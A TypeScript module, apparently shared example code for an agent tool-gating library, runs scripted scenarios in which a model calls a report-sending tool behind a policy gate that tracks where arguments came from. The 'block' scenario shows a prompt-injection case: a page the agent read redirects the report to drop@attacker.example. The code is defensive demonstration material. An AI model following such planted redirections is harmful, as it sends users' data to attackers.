/** What the examples share besides the gate: a tool, three things that a model may do with it, and their report. */

import { type Call, openToolGate, type ToolGate } from "./tool_gate.ts";

/** Arguments of the tool. */
export interface Report {
  /** Mail address. */
  readonly to: string;
  readonly text: string;
}

/** What the user says, and the call that the scripted model makes of it. */
export interface Scenario {
  readonly prompt: string;
  readonly call: Report;
}

const SCENARIOS: Readonly<Record<string, Scenario>> = {
  allow: {
    prompt: "Send the weekly report to team@example.com",
    call: { to: "team@example.com", text: "All green." },
  },
  // A page that the agent read said where else to send it, and the model was taken in.
  block: {
    prompt: "Send the weekly report to team@example.com",
    call: { to: "drop@attacker.example", text: "All green." },
  },
  require_approval: {
    prompt: "Send the weekly report to auditor@partner.example",
    call: { to: "auditor@partner.example", text: "All green." },
  },
};

/** What an example gets to build its agent with. */
export interface Prepared extends Scenario {
  /** The tool, behind the Gate. */
  readonly sendReport: (report: Report) => Promise<string>;
}

/** Runs the scenario of the command line and prints what happened, one `name=value` a line. */
export async function quickstart(
  framework: string,
  runAgent: (prepared: Prepared) => Promise<unknown>,
): Promise<void> {
  const [flag, name = ""] = Deno.args;
  const scenario = SCENARIOS[name];
  if (flag !== "--scenario" || scenario === undefined) {
    return fail(`use --scenario ${Object.keys(SCENARIOS).join("|")}`);
  }
  const folder = `gait-out/integrations/${framework}`;
  await Deno.mkdir(folder, { recursive: true });
  const executorPath = `${folder}/executor_${name}.json`;
  await Deno.remove(executorPath).catch(() => {});

  let gate: ToolGate;
  try {
    gate = await openToolGate({
      policyPath: new URL("policy.yaml", import.meta.url),
      keyPath: "gait-out/keys/gait_private.key",
      tracePath: `${folder}/trace_${name}.json`,
    });
  } catch (error) {
    if (!(error instanceof Deno.errors.NotFound)) throw error;
    return fail("there is no key at gait-out/keys/gait_private.key: run gait keys init");
  }
  const sendReport = gate.wrap(
    (report: Report) => describe(report, scenario.prompt),
    // The side effect. A real tool would send mail.
    async (report) => {
      await Deno.writeTextFile(executorPath, `${JSON.stringify(report)}\n`);
      return `sent to ${report.to}`;
    },
  );
  await runAgent({ ...scenario, sendReport });

  const [outcome] = gate.outcomes;
  if (outcome === undefined) return fail("the agent did not call the tool");
  const { verdict, executed, trace_path, answer } = outcome;
  const lines = { framework, scenario: name, verdict, executed, trace_path };
  for (const [key, value] of Object.entries(lines)) console.log(`${key}=${value}`);
  if (executed) console.log(`executor_output=${executorPath}`);
  console.log(`model_was_told=${answer}`);
}

/** Says what the policy may know: where the report would go, and who chose the address. */
function describe({ to, text }: Report, prompt: string): Call {
  return {
    tool_name: "report.send",
    args: { to, text },
    targets: [{ kind: "host", value: to.slice(to.lastIndexOf("@") + 1), operation: "write" }],
    arg_provenance: [
      { arg_path: "$.to", source: prompt.includes(to) ? "user" : "tool_output" },
    ],
    context: { identity: "report-agent", workspace: "/srv/reports", risk_class: "high" },
  };
}

function fail(text: string): void {
  console.error(`error=${text}`);
  Deno.exitCode = 1;
}
